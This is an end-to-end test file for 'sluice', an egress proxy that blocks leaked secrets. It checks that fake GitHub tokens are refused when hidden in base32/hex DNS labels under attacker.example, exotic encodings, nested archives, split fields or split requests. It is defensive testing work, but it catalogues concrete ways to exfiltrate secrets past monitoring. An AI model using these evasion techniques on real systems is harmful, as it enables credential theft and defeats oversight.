#!/usr/bin/env python3
"""End-to-end tests for the holes a red-team pass found after issue 25 was built: each
one let a checksum-valid GitHub token leave through sluice or stay in its audit log.

- A CONNECT or absolute-form request refused by policy (403 `policy_deny`) to a host whose
  labels spell the token in base32 or hex: no audit record may hold the encoded token.
- Bodies that carry the token in base32, ascii85, UTF-16/UTF-32, bare quoted-printable,
  byte lists, binary digits, one separator between characters or between groups of 2-8,
  string literals joined by '+', uuencode, ROT13 or reversed: 403 `dlp_finding`, nothing at the origin; `sluice scan` finds the base32 form in a file.
- Compressed bodies sent without Content-Encoding: bzip2 (one stream, concatenated
  streams) and raw DEFLATE: 403 `dlp_finding`; random binary is forwarded.
- The token with its prefix in capitals (`GHP_...`), re-cased (all capitals, all small
  letters, every case swapped) or without its prefix (the 36 characters after `ghp_`,
  checksum-valid): 403 `dlp_finding`; a look-alike whose checksum does not verify is
  forwarded.
- A token cut into parts and scattered over one request (issue 21, joined views): query
  values with junk between them, path segments, two JSON fields of an MCP tool call (in
  any Content-Type), form fields, multipart parts, SSE events: 403 `dlp_finding`, nothing
  at the origin, no part in the audit; the same shapes with clean values are forwarded.
- A token cut over two requests to one destination (JSON chunks on two connections,
  labelled halves on one kept-alive connection): the second is refused (the seam of
  dlp/seam.hpp); unrelated requests one after another are forwarded.
- Archives and compressed files (issue 21): a token in a member of a tar.gz, a zip, a zip
  inside a tar.gz, an npm publish document (the tarball in base64 in JSON), a multipart
  tar.gz/zip/gzip part, or gzip/zstd after other bytes: 403 `dlp_finding`, nothing at the
  origin; an encrypted zip is 400 `bad_encoding`; clean ones arrive unchanged; `sluice
  scan` of a .zip and a .tar.gz names the member.

Run by ctest (tests/e2e/CMakeLists.txt, SLUICE_BIN set) or by hand:
  SLUICE_BIN=build/sluice python3 tests/e2e/test_red_team_encodings.py -v

One `sluice run` with one listener (identity `agent`): `*.attacker.example` is denied by
policy, the TLS origin from test_proxy.py (which records every complete request) is
allowed and inspected with every built-in detector.
"""

import base64
import binascii
import bz2
import codecs
import gzip
import http.client
import io
import json
import os
import socket
import subprocess
import sys
import tarfile
import tempfile
import time
import unittest
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import test_proxy as tp  # noqa: E402  (certificates, recording origins, token maker)
import test_large_bodies as lb  # noqa: E402  (curl upload helpers)

START_TIMEOUT_S = float(os.environ.get("SLUICE_E2E_START_TIMEOUT", "120"))
TIMEOUT_S = 30


class U:
    tmp = None
    origin = None
    run = None  # the tp.agent_run
    port = None
    audit_path = None
    sluice_ca = None
    tokens = []  # every token sent, for the audit check


def setUpModule():
    if not os.environ.get("SLUICE_BIN"):
        raise unittest.SkipTest("SLUICE_BIN is not set (ctest sets it to the built sluice)")
    U.tmp = tempfile.mkdtemp(prefix="sluice-red-team-")
    tp.make_certificates(U.tmp)
    U.origin = tp.recording_origin("tls", os.path.join(U.tmp, "origin.pem"),
                                   os.path.join(U.tmp, "origin.key"))
    U.run = tp.agent_run(U.tmp, U.origin, dlp="{detectors: [all]}", rules="""\
      - hosts: ["*.attacker.example"]
        action: deny
""")
    U.port, U.audit_path, U.sluice_ca = U.run.port, U.run.audit_path, U.run.ca
    lb.B.tmp, lb.B.origin, lb.B.ports, lb.B.sluice_ca = U.tmp, U.origin, {"agent": U.port}, \
        U.sluice_ca
    lb.B.audit_path = U.audit_path


def tearDownModule():
    U.run.stop()


def fresh_token():
    t = tp.github_classic_token()
    U.tokens.append(t)
    return t


def b32(data, lower=False):
    """RFC 4648 section 6 base32 without padding (a DNS label cannot hold '=')."""
    out = base64.b32encode(data).decode().rstrip("=")
    return out.lower() if lower else out


def labels(encoded, width):
    """`encoded` cut into DNS labels of `width` characters (RFC 1035: at most 63)."""
    return ".".join(encoded[i:i + width] for i in range(0, len(encoded), width))


def raw_request(head):
    """Sends one request head to sluice; returns (status, headers, body)."""
    sock = socket.create_connection(("127.0.0.1", U.port), timeout=TIMEOUT_S)
    try:
        sock.sendall(head)
        method = head.split(b" ", 1)[0].decode()
        resp = http.client.HTTPResponse(sock, method=method)
        resp.begin()
        return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
    finally:
        sock.close()


def audit_records_for(flow):
    """The audit records of `flow` (polled: the record is written before the answer, but
    the file is read by another process)."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        with open(U.audit_path) as f:
            hits = [json.loads(line) for line in f if flow in line]
        if hits:
            return hits
        time.sleep(0.05)
    return []


def audit_bytes():
    with open(U.audit_path, "rb") as f:
        return f.read()


class audit_host_test(unittest.TestCase):
    """Item 1: a host refused by policy is recorded without the secret its labels spell."""

    def refuse(self, head):
        status, headers, body = raw_request(head)
        self.assertEqual(status, 403, body[:300])
        self.assertEqual(json.loads(body)["reason"], "policy_deny", body[:300])
        flow = headers.get("x-sluice-flow")
        self.assertTrue(flow, headers)
        records = audit_records_for(flow)
        self.assertTrue(records, "no audit record for flow %s" % flow)
        return records

    def hosts(self, t):
        """Hosts spelling `t`: base32 (upper, lower), base32 in short labels, hex."""
        tb = t.encode()
        return {
            "base32": (labels(b32(tb), 40) + ".attacker.example", b32(tb)),
            "base32-lower": (labels(b32(tb, True), 63) + ".attacker.example", b32(tb, True)),
            "base32-short-labels": (labels(b32(tb), 13) + ".attacker.example",
                                    b32(tb).replace(".", "")),
            "hex": (labels(tb.hex(), 40) + ".attacker.example", tb.hex()),
        }

    def assert_not_recorded(self, records, encoded):
        text = json.dumps(records)
        # Any 16 consecutive characters of the encoding (labels are cut anywhere).
        for i in range(0, len(encoded) - 16, 4):
            self.assertNotIn(encoded[i:i + 16], text, records)

    def test_connect_refused_by_policy_records_no_encoded_token(self):
        for kind, (host, encoded) in self.hosts(fresh_token()).items():
            with self.subTest(kind):
                authority = ("%s:443" % host).encode()
                records = self.refuse(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" %
                                      (authority, authority))
                self.assert_not_recorded(records, encoded)

    def test_absolute_form_refused_by_policy_records_no_encoded_token(self):
        for kind, (host, encoded) in self.hosts(fresh_token()).items():
            with self.subTest(kind):
                records = self.refuse(b"GET http://%s/x?q=1 HTTP/1.1\r\nHost: %s\r\n"
                                      b"Connection: close\r\n\r\n" % (host.encode(),
                                                                      host.encode()))
                self.assert_not_recorded(records, encoded)


def encodings(t):
    """The token in every body encoding the red-team pass forwarded (Python's codecs)."""
    tb = t.encode()
    return {
        "base32": b'{"k": "%s"}' % base64.b32encode(tb),
        "base32-lower": b"k=%s\n" % base64.b32encode(tb).lower().rstrip(b"="),
        "ascii85": base64.a85encode(tb, adobe=True),
        "utf16le": ('{"k": "%s"}' % t).encode("utf-16-le"),
        "utf16be": ('{"k": "%s"}' % t).encode("utf-16-be"),
        "utf32": ('{"k": "%s"}' % t).encode("utf-32"),
        # Wide text inside other bytes: after a binary prefix longer than the 4 KiB the
        # whole-body sniff reads, and at an odd offset.
        "utf32le-after-binary": bytes(range(256)) * 24 + ("k=%s;" % t).encode("utf-32-le"),
        "utf16be-odd-offset": b"\x07" + bytes(range(256)) * 20 +
                              ("k=%s;" % t).encode("utf-16-be"),
        "base64-two-spaces": b"blob: " + b"  ".join(
            base64.b64encode(b"k=" + tb + b"\n")[i:i + 12]
            for i in range(0, len(base64.b64encode(b"k=" + tb + b"\n")), 12)),
        "qp-soft-break": b"key: " + tb[:20] + b"=\r\n" + tb[20:] + b"\r\n",
        "qp-every-byte": b"key=" + b"".join(b"=%02X" % c for c in tb),
        "bytes-hex": b",".join(b"0x%02x" % c for c in tb),
        "bytes-decimal": b"[" + b", ".join(b"%d" % c for c in tb) + b"]",
        "bytes-space": b" ".join(b"%d" % c for c in tb),
        "bytes-escaped": b" ".join(b"\\x%02x" % c for c in tb),
        "spaced": b"key: " + b" ".join(bytes([c]) for c in tb),
        "dashed": b"key: " + b"-".join(bytes([c]) for c in tb),
        "bits-spaced": " ".join(format(c, "08b") for c in tb).encode(),
        "bits-run": b"data=" + "".join(format(c, "08b") for c in tb).encode(),
        "groups-of-4": b"key: " + b"-".join(tb[i:i + 4] for i in range(0, len(tb), 4)),
        "js-concat": b'const t = "' + tb[:14] + b'" + "' + tb[14:28] + b'" +\n  "' +
                     tb[28:] + b'";',
        "uuencode": b"begin 644 key.txt\n" + binascii.b2a_uu(tb) + b"`\nend\n",
        "rot13": b"token: " + codecs.encode(t, "rot13").encode(),
        "reversed": ("my token is %s thanks" % t)[::-1].encode(),
    }


class body_encodings_test(unittest.TestCase):
    """Item 2: each encoding of a checksum-valid token in a body is refused."""

    def test_each_encoding_is_refused_and_nothing_reaches_the_origin(self):
        for kind, body in encodings(fresh_token()).items():
            with self.subTest(kind):
                path = "/enc/%s/%s" % (kind, tp.marker())
                code, answer = lb.upload("agent", path, body)
                self.assertEqual(code, "403", (kind, answer[:300]))
                doc = json.loads(answer)
                self.assertEqual(doc["reason"], "dlp_finding", kind)
                self.assertIn("github-pat-classic", doc["rules"], kind)
                self.assertEqual(lb.origin_got(path), [], "%s reached the origin" % kind)

    def test_a_clean_body_in_the_same_encodings_is_forwarded(self):
        words = "hello world, nothing secret in here at all"
        for kind, body in encodings(words).items():
            with self.subTest(kind):
                path = "/clean/%s/%s" % (kind, tp.marker())
                code, answer = lb.upload("agent", path, body)
                self.assertEqual(code, "200", (kind, answer[:300]))
                self.assertEqual(len(lb.origin_got(path)), 1, kind)

    def test_sluice_scan_finds_a_base32_token_in_a_file(self):
        t = fresh_token()
        path = os.path.join(U.tmp, "b32.txt")
        with open(path, "wb") as f:
            f.write(b"token = %s\n" % base64.b32encode(t.encode()))
        r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl", path],
                           capture_output=True, timeout=START_TIMEOUT_S)
        self.assertEqual(r.returncode, 1, r.stderr)
        # The token in base32 (the line is also an unquoted secret assignment).
        findings = [json.loads(line) for line in r.stdout.splitlines()]
        self.assertIn(("github-pat-classic", "base32"),
                      [(f["rule"], f["variant"]) for f in findings], findings)


def raw_deflate(data):
    """RFC 1951 DEFLATE without the zlib header and trailer."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


class compressed_body_test(unittest.TestCase):
    """Item 3: bzip2 and raw DEFLATE bodies without Content-Encoding are opened."""

    def test_bzip2_and_raw_deflate_bodies_are_refused(self):
        filler = b"".join(b"%d event status ok\n" % i for i in range(3000))
        for kind, make in (("bzip2", bz2.compress),
                           ("bzip2-concatenated", lambda d: bz2.compress(filler) +
                            bz2.compress(d)),
                           ("raw-deflate", raw_deflate)):
            with self.subTest(kind):
                t = fresh_token().encode()
                body = make(filler[:20000] + b"key=" + t + b"\n" + filler[20000:])
                self.assertNotIn(t, body)
                path = "/compressed/%s/%s" % (kind, tp.marker())
                code, answer = lb.upload("agent", path, body)
                self.assertEqual(code, "403", (kind, answer[:300]))
                self.assertEqual(json.loads(answer)["reason"], "dlp_finding", kind)
                self.assertEqual(lb.origin_got(path), [], "%s reached the origin" % kind)

    def test_compressed_inside_compressed_is_refused(self):
        """gzip of gzip (x2, x6), bzip2 of gzip, gzip after junk inside gzip: no
        Content-Encoding, every layer opened; a 20-deep stack is 413 decode_budget."""
        def gz(d, times=1):
            for _ in range(times):
                d = gzip.compress(d)
            return d
        for kind, make, code_want, reason in (
                ("gzip-x2", lambda d: gz(d, 2), "403", "dlp_finding"),
                ("gzip-x6", lambda d: gz(d, 6), "403", "dlp_finding"),
                ("bzip2-gzip", lambda d: bz2.compress(gz(d)), "403", "dlp_finding"),
                ("junk-gzip-in-gzip", lambda d: gz(b"notes follow " + gz(d)), "403",
                 "dlp_finding"),
                ("gzip-x20", lambda d: gz(d, 20), "413", "decode_budget")):
            with self.subTest(kind):
                t = fresh_token().encode()
                body = make(b"key=" + t + b"\n")
                self.assertNotIn(t, body)
                path = "/nested/%s/%s" % (kind, tp.marker())
                code, answer = lb.upload("agent", path, body)
                self.assertEqual(code, code_want, (kind, answer[:300]))
                self.assertEqual(json.loads(answer)["reason"], reason, kind)
                self.assertEqual(lb.origin_got(path), [], "%s reached the origin" % kind)

    def test_random_binary_is_forwarded(self):
        body = os.urandom(64 * 1024)
        path = "/binary/%s" % tp.marker()
        code, answer = lb.upload("agent", path, body)
        self.assertEqual(code, "200", answer[:300])
        self.assertEqual(len(lb.origin_got(path)), 1)


class token_shape_test(unittest.TestCase):
    """Item 4: the prefix in capitals, and the checksum-valid body without its prefix."""

    def refused(self, body, rule):
        path = "/shape/%s" % tp.marker()
        code, answer = lb.upload("agent", path, body)
        self.assertEqual(code, "403", answer[:300])
        doc = json.loads(answer)
        self.assertEqual(doc["reason"], "dlp_finding")
        self.assertIn(rule, doc["rules"])
        self.assertEqual(lb.origin_got(path), [], "%r reached the origin" % body[:60])

    def test_prefix_in_capitals_is_refused(self):
        t = fresh_token()
        self.refused(b'{"k": "GHP_%s"}' % t[4:].encode(), "github-token-any-case")
        t = fresh_token()
        self.refused(b"token=Ghp_%s" % t[4:].encode(), "github-token-any-case")

    def test_a_token_re_cased_is_refused(self):
        # All capitals or all small letters lose the case (recovered offline by trying
        # the letters against the CRC32); every case swapped keeps it (XOR 0x20).
        t = fresh_token()
        self.refused(b'{"k": "%s"}' % t.upper().encode(), "github-token-one-case")
        t = fresh_token()
        self.refused(b"token=%s" % t.lower().encode(), "github-token-one-case")
        t = fresh_token()
        self.refused(b'{"k": "%s"}' % t.swapcase().encode(), "github-token-any-case")

    def test_token_without_its_prefix_is_refused(self):
        t = fresh_token()
        self.refused(b'{"k": "%s"}' % t[4:].encode(), "github-pat-classic")

    def test_look_alikes_whose_checksum_fails_are_forwarded(self):
        t = fresh_token()
        body = t[4:-1] + ("A" if t[-1] != "A" else "B")
        for text in (b"GHP_" + body.encode(), b'{"k": "%s"}' % body.encode()):
            path = "/shape-clean/%s" % tp.marker()
            code, answer = lb.upload("agent", path, text)
            self.assertEqual(code, "200", answer[:300])
            self.assertEqual(len(lb.origin_got(path)), 1)


def send(path, body=None, ct=None, forms=()):
    """curl through sluice to the TLS origin: `body` POSTed with Content-Type `ct`, or
    `forms` as multipart fields (-F), or a GET. Returns (status, answer bytes)."""
    d = tempfile.mkdtemp(dir=U.tmp)
    out = os.path.join(d, "out")
    cmd = ["curl", "-q", "-sS", "--globoff", "--max-time", "60", "--proxy",
           "http://127.0.0.1:%d" % U.port, "--cacert", U.sluice_ca, "-H", "Expect:",
           "-o", out, "-w", "%{http_code}"]
    if body is not None:
        src = os.path.join(d, "body")
        with open(src, "wb") as f:
            f.write(body)
        cmd += ["-H", "Content-Type: " + ct, "--data-binary", "@" + src]
    for name, value in forms:
        cmd += ["-F", "%s=%s" % (name, value)]
    cmd.append("https://localhost:%d%s" % (U.origin.port, path))
    r = subprocess.run(cmd, capture_output=True, timeout=90, env=tp.client_env())
    answer = b""
    if os.path.exists(out):
        with open(out, "rb") as f:
            answer = f.read()
    return r.stdout.decode().strip(), answer


def scatter(t, n):
    """`t` cut into `n` parts of about equal length."""
    step = -(-len(t) // n)
    return [t[i:i + step] for i in range(0, len(t), step)]


def shapes(parts, base):
    """One request per shape, each carrying `parts` (in order) with junk between them."""
    a, b, c = parts
    call = {"jsonrpc": "2.0", "id": 3, "method": "tools/call",
            "params": {"name": "save", "arguments": {"first": a, "note": "zz1",
                                                     "middle": b, "last": c}}}
    return [
        ("query", dict(path="%s/q?a=%s&junk=zz1&b=%s&c=%s" % (base, a, b, c))),
        ("bare query words", dict(path="%s/b?%s&zz1&%s&%s" % (base, a, b, c))),
        ("path", dict(path="%s/p/%s/%s/%s/x" % (base, a, b, c))),
        ("json", dict(path=base + "/j", body=json.dumps(call).encode(),
                      ct="application/json")),
        ("json as text", dict(path=base + "/t", body=json.dumps(call).encode(),
                              ct="text/plain")),
        ("form", dict(path=base + "/f", body=("a=%s&n=zz1&b=%s&c=%s" % (a, b, c)).encode(),
                      ct="application/x-www-form-urlencoded")),
        ("multipart", dict(path=base + "/m", forms=(("a", a), ("n", "zz1"), ("b", b),
                                                    ("c", c)))),
        ("sse", dict(path=base + "/s", ct="text/event-stream",
                     body=("data: %s\n\ndata: zz1\n\ndata: %s\n\ndata: %s\n\n" %
                           (a, b, c)).encode())),
    ]


class joined_fields_test(unittest.TestCase):
    """A token scattered over the values of one request is joined and refused (issue 21)."""

    def test_scattered_token_is_refused_in_every_shape(self):
        for name, req in shapes(scatter(fresh_token(), 3), "/joined-%s" % tp.marker()):
            with self.subTest(shape=name):
                code, answer = send(**req)
                self.assertEqual(code, "403", answer[:300])
                doc = json.loads(answer)
                self.assertEqual(doc["reason"], "dlp_finding")
                self.assertIn("github-pat-classic", doc["rules"])
                self.assertEqual(lb.origin_got(req["path"]), [])

    def test_the_same_shapes_with_clean_values_are_forwarded(self):
        parts = ["draft-%s" % tp.marker()[:6], "v2", tp.marker()[:8]]
        for name, req in shapes(parts, "/joined-clean-%s" % tp.marker()):
            with self.subTest(shape=name):
                code, answer = send(**req)
                self.assertEqual(code, "200", answer[:300])
                self.assertEqual(len(lb.origin_got(req["path"])), 1)

    def test_the_audit_holds_no_part(self):
        t = fresh_token()
        parts = scatter(t, 3)
        for name, req in shapes(parts, "/joined-audit-%s" % tp.marker()):
            code, answer = send(**req)
            self.assertEqual(code, "403", name)
        data = audit_bytes()
        for p in parts:
            self.assertNotIn(p.encode(), data)


def uploads_on_one_connection(paths_bodies, ct):
    """curl POSTs each (path, body) in turn on one kept-alive connection through sluice
    (`--next`). Returns [(status, new connections made)] per request."""
    d = tempfile.mkdtemp(dir=U.tmp)
    cmd = ["curl", "-q", "-sS", "--max-time", "60"]
    for i, (path, body) in enumerate(paths_bodies):
        src = os.path.join(d, "body%d" % i)
        with open(src, "wb") as f:
            f.write(body)
        if i:
            cmd.append("--next")
        cmd += ["--proxy", "http://127.0.0.1:%d" % U.port, "--cacert", U.sluice_ca,
                "-H", "Expect:", "-H", "Content-Type: " + ct, "--data-binary", "@" + src,
                "-o", os.path.join(d, "out%d" % i), "-w", "%{http_code} %{num_connects}\n",
                "https://localhost:%d%s" % (U.origin.port, path)]
    r = subprocess.run(cmd, capture_output=True, timeout=90, env=tp.client_env())
    return [tuple(line.split()) for line in r.stdout.decode().split("\n") if line]


class joined_across_requests_test(unittest.TestCase):
    """A token cut over two requests to one destination is joined at their seam (issue
    21): the request that completes it is refused, on one connection or on two."""

    def test_json_chunks_on_two_connections(self):
        t = fresh_token()
        base = "/seam-json-%s" % tp.marker()
        first = json.dumps({"chunk": 0, "data": t[:20]}).encode()
        second = json.dumps({"chunk": 1, "data": t[20:]}).encode()
        code, answer = send(base + "/0", body=first, ct="application/json")
        self.assertEqual(code, "200", answer[:300])
        code, answer = send(base + "/1", body=second, ct="application/json")
        self.assertEqual(code, "403", answer[:300])
        doc = json.loads(answer)
        self.assertEqual(doc["reason"], "dlp_finding")
        self.assertIn("github-pat-classic", doc["rules"])
        self.assertEqual(len(lb.origin_got(base + "/0")), 1)
        self.assertEqual(lb.origin_got(base + "/1"), [])

    def test_a_refusal_at_the_seam_keeps_no_part_in_the_audit(self):
        # The second half is in the refused request's query and path as well as its body:
        # the audit keeps neither (the finding is the body's, the parts are anywhere).
        t = fresh_token()
        base = "/seam-audit-%s" % tp.marker()
        code, _ = send(base + "/0", body=json.dumps({"chunk": 0, "data": t[:20]}).encode(),
                       ct="application/json")
        self.assertEqual(code, "200")
        code, answer = send("%s/%s?d=%s" % (base, t[20:], t[20:]),
                            body=json.dumps({"chunk": 1, "data": t[20:]}).encode(),
                            ct="application/json")
        self.assertEqual(code, "403", answer[:300])
        self.assertNotIn(t[20:].encode(), audit_bytes())

    def test_labelled_halves_on_one_connection(self):
        t = fresh_token()
        base = "/seam-text-%s" % tp.marker()
        got = uploads_on_one_connection(
            [(base + "/0", ("part1: " + t[:18]).encode()),
             (base + "/1", ("part2: " + t[18:]).encode())], "text/plain")
        # 200 then 403 on the same connection (the second made no new connection).
        self.assertEqual(got, [("200", "1"), ("403", "0")])
        self.assertEqual(lb.origin_got(base + "/1"), [])

    def test_unrelated_requests_are_forwarded(self):
        # MCP tool calls one after another, and the ends of two different tokens' halves
        # that do not make a token shape: nothing is joined into a finding.
        base = "/seam-clean-%s" % tp.marker()
        calls = [{"jsonrpc": "2.0", "id": i, "method": "tools/call",
                  "params": {"name": "search", "arguments": {"query": "weather in Paris",
                                                             "page": i}}}
                 for i in range(4)]
        for i, call in enumerate(calls):
            code, answer = send("%s/%d" % (base, i), body=json.dumps(call).encode(),
                                ct="application/json")
            self.assertEqual(code, "200", answer[:300])
        a, b = fresh_token(), fresh_token()
        code, _ = send(base + "/a", body=("x: " + a[:12]).encode(), ct="text/plain")
        self.assertEqual(code, "200")
        code, _ = send(base + "/b", body=("y: " + b[30:]).encode(), ct="text/plain")
        self.assertEqual(code, "200")


def zip_of(members, password=None):
    """A zip archive (PKWARE APPNOTE) of `members` ({name: bytes}), written by Python's
    zipfile, or by Info-ZIP's zip with traditional PKWARE encryption when `password`."""
    if password is None:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in members.items():
                z.writestr(name, data)
        return buf.getvalue()
    d = tempfile.mkdtemp(dir=U.tmp)
    for name, data in members.items():
        os.makedirs(os.path.dirname(os.path.join(d, name)), exist_ok=True)
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    subprocess.run(["zip", "-q", "-P", password, "out.zip"] + list(members), cwd=d,
                   check=True, timeout=TIMEOUT_S)
    with open(os.path.join(d, "out.zip"), "rb") as f:
        return f.read()


def tgz_of(members):
    """A gzip-compressed POSIX tar (an npm package tarball's shape: package/...)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def npm_publish(name, tgz):
    """The JSON document `npm publish` PUTs to a registry: the tarball in base64 under
    _attachments (npm/libnpmpublish)."""
    return json.dumps({
        "_id": name, "name": name, "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {"name": name, "version": "1.0.0",
                               "dist": {"tarball": "https://registry.example/%s.tgz" % name}}},
        "_attachments": {"%s-1.0.0.tgz" % name: {
            "content_type": "application/octet-stream",
            "data": base64.b64encode(tgz).decode(), "length": len(tgz)}}}).encode()


def package_files(secret):
    """An npm package whose config file holds `secret` (or is clean when it is None)."""
    config = b"module.exports = { retries: 3 };\n" if secret is None else \
        b"module.exports = { token: '%s' };\n" % secret.encode()
    return {"package/package.json": b'{"name": "left-pad-x", "version": "1.0.0"}\n',
            "package/index.js": b"module.exports = (s, n) => s.padStart(n);\n",
            "package/lib/config.js": config}


class archive_upload_test(unittest.TestCase):
    """Archives and compressed files uploaded as a body, a multipart part, after other
    bytes or base64 inside JSON (npm publish) are opened and every member scanned
    (issue 21): a token in a member is 403 `dlp_finding` and never reaches the origin; an
    archive sluice cannot open whole (encrypted) is 400 `bad_encoding`; clean ones reach
    the origin byte for byte."""

    def refused(self, path, reason="dlp_finding", status="403", **req):
        code, answer = send(path, **req)
        self.assertEqual(code, status, answer[:300])
        doc = json.loads(answer)
        self.assertEqual(doc["reason"], reason, doc)
        self.assertEqual(lb.origin_got(path), [])
        return doc

    def uploads(self, secret):
        """(name, request) pairs, each carrying `secret` (or nothing) packed another way."""
        files = package_files(secret)
        tgz, z = tgz_of(files), zip_of(files)
        nested = tgz_of({"package/vendor.zip": zip_of({"deep/config.js":
                                                       files["package/lib/config.js"]})})
        gz = gzip.compress(files["package/lib/config.js"])
        d = tempfile.mkdtemp(dir=U.tmp)
        for name, data in (("p.tgz", tgz), ("p.zip", z), ("c.gz", gz)):
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        cfg = files["package/lib/config.js"]
        zst = subprocess.run(["zstd", "-q", "-c"], input=cfg, capture_output=True, check=True,
                             timeout=TIMEOUT_S).stdout
        small = zlib.compressobj(6, zlib.DEFLATED, 9)  # a 512-byte window: CMF 0x18
        zl9 = small.compress(cfg) + small.flush()
        a, b = (secret[:20], secret[20:]) if secret else ("hello", "world")
        split = json.dumps({"a": a, "j": "x", "b": b}).encode()
        return [
            # Found by a red-team pass (the zlib one carried the whole token out):
            ("zlib after one byte", dict(body=b"J" + zlib.compress(cfg),
                                         ct="application/octet-stream")),
            ("zlib, small window, after bytes", dict(body=b"BLOB " + zl9,
                                                     ct="application/octet-stream")),
            ("bzip2 after bytes", dict(body=b"--header--\n" + bz2.compress(cfg),
                                       ct="application/octet-stream")),
            ("split JSON gzipped, no coding", dict(body=gzip.compress(split),
                                                   ct="application/octet-stream")),
            ("tar.gz body", dict(body=tgz, ct="application/octet-stream")),
            ("zip body", dict(body=z, ct="application/zip")),
            ("zip in tar.gz", dict(body=nested, ct="application/gzip")),
            ("npm publish", dict(body=npm_publish("left-pad-x", tgz),
                                 ct="application/json")),
            ("multipart tar.gz", dict(forms=(("note", "release"),
                                             ("pkg", "@%s/p.tgz;type=application/gzip" % d)))),
            ("multipart zip", dict(forms=(("pkg", "@%s/p.zip;type=application/zip" % d),))),
            ("multipart gzip, no type", dict(forms=(("f", "@%s/c.gz" % d),))),
            ("gzip after other bytes", dict(body=b"--header--\n" + gz, ct="text/plain")),
            ("zstd after other bytes", dict(body=b"BLOB " + zst,
                                            ct="application/octet-stream")),
        ]

    def test_a_token_in_any_packed_upload_is_refused(self):
        for name, req in self.uploads(fresh_token()):
            with self.subTest(upload=name):
                doc = self.refused("/archive-%s" % tp.marker(), **req)
                self.assertIn("github-pat-classic", doc["rules"])

    def test_the_same_uploads_clean_are_forwarded_unchanged(self):
        for name, req in self.uploads(None):
            with self.subTest(upload=name):
                path = "/archive-clean-%s" % tp.marker()
                code, answer = send(path, **req)
                self.assertEqual(code, "200", answer[:300])
                got = lb.origin_got(path)
                self.assertEqual(len(got), 1)
                if "body" in req:
                    self.assertEqual(got[0]["body"], req["body"])

    def test_a_member_named_like_a_token_is_refused_and_not_recorded(self):
        t = fresh_token()
        doc = self.refused("/archive-name-%s" % tp.marker(),
                           body=zip_of({"keys/%s.txt" % t: b"see name\n"}),
                           ct="application/zip")
        self.assertIn("github-pat-classic", doc["rules"])
        self.assertNotIn(t[:24].encode(), audit_bytes())

    def test_an_encrypted_zip_is_bad_encoding(self):
        """Its members cannot be read, so they cannot be inspected: refused, clean or not."""
        for secret in (None, fresh_token()):
            with self.subTest(secret=secret is not None):
                self.refused("/archive-enc-%s" % tp.marker(), "bad_encoding", "400",
                             body=zip_of(package_files(secret), password="hunter2"),
                             ct="application/zip")

    def test_sluice_scan_opens_zip_and_tar_gz_files(self):
        t = fresh_token()
        files = package_files(t)
        found = {}
        for name, data in (("pkg.zip", zip_of(files)), ("pkg.tar.gz", tgz_of(files))):
            path = os.path.join(U.tmp, name)
            with open(path, "wb") as f:
                f.write(data)
            r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl", path],
                               capture_output=True, timeout=START_TIMEOUT_S)
            self.assertEqual(r.returncode, 1, r.stderr)
            found[name] = [json.loads(line) for line in r.stdout.splitlines()]
            self.assertNotIn(t.encode(), r.stdout)  # findings are redacted
        for name, findings in found.items():
            with self.subTest(file=name):
                self.assertIn("github-pat-classic", [f["rule"] for f in findings])
                self.assertTrue(any("archive:package/lib/config.js" in json.dumps(f)
                                    for f in findings), findings)


class zz_audit_test(unittest.TestCase):
    """Last: over everything this module sent, the audit holds no token in any form."""

    def test_audit_holds_no_secret(self):
        data = audit_bytes()
        for t in U.tokens:
            tb = t.encode()
            for form in (tb, tb.hex().encode(), b32(tb).encode(), b32(tb, True).encode()):
                self.assertNotIn(form[:24], data)
        r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl",
                            U.audit_path], capture_output=True, timeout=START_TIMEOUT_S)
        self.assertEqual(r.returncode, 0, "sluice scan found a secret in the audit: %s" %
                         r.stdout[:2000])


if __name__ == "__main__":
    unittest.main()
